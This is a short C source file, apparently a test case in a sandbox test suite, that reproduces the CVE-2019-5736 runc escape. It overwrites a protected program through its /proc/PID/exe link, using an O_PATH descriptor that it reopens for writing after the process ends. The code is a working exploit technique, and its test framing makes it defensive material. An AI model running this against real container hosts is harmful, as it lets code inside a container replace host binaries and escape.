/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A program that must not be changed, overwritten through /proc/PID/exe of a process that runs it.
 *
 * The link leads to the file whatever its path; kept as an O_PATH descriptor it can be written to once the process has ended.
 * So runc was overwritten from within a container.
 *
 * ---
 * tries: [own]
 * source: CVE-2019-5736 (runc)
 * rule: fixed
 * wins: changed
 */
#include "attack.h"

int main(void)
{
	int gate[2], file = -1;
	char path[64], real[4096];
	pid_t child;

	/* the program waits in its first write, as nobody reads what is in the pipe */
	must(pipe2(gate, O_NONBLOCK | O_CLOEXEC), "pipe");
	while (write(gate[1], path, 1) == 1)
		;
	fcntl(gate[1], F_SETFL, 0);
	child = fork();
	if (!child) {
		dup2(gate[1], 1);
		execl(V("prog"), "prog", NULL);
		_exit(1);
	}
	close(gate[1]);
	snprintf(path, sizeof(path), "/proc/%d/exe", child);
	for (int i = 0; i < 5000 && file < 0; i++) {
		long n = readlink(path, real, sizeof(real) - 1);

		if (n > 5 && !strncmp(real + n - 5, "/prog", 5))
			file = open(path, O_PATH);
		else
			usleep(1000);
	}
	must(file, "O_PATH of its program");
	close(gate[0]);
	waitpid(child, NULL, 0);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	/* the last of the process may still be going away */
	for (int i = 0; i < 100 && (file = open(path, O_WRONLY)) < 0 && errno == ETXTBSY; i++)
		usleep(10000);
	must(file, "open for writing");
	must(write(file, "#!/bin/sh\n", 10), "write");
	return 0;
}
